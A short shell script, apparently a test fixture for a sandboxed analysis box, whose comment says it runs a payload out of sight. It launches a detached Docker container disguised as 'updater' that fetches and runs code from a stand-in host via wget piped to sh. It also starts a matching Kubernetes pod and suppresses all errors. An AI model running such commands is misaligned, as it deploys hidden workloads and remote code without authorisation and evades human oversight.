#!/bin/sh
# SPDX-License-Identifier: MIT
# Deploys a container of its own to run a payload out of sight.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
timeout 5 docker run -d --rm --name updater alpine:3 sh -c 'wget -qO- http://cdn-update.example.net/a | sh' 2>/dev/null
timeout 5 kubectl run updater --image=alpine:3 --restart=Never -- sh -c 'sleep 3600' 2>/dev/null
exit 0
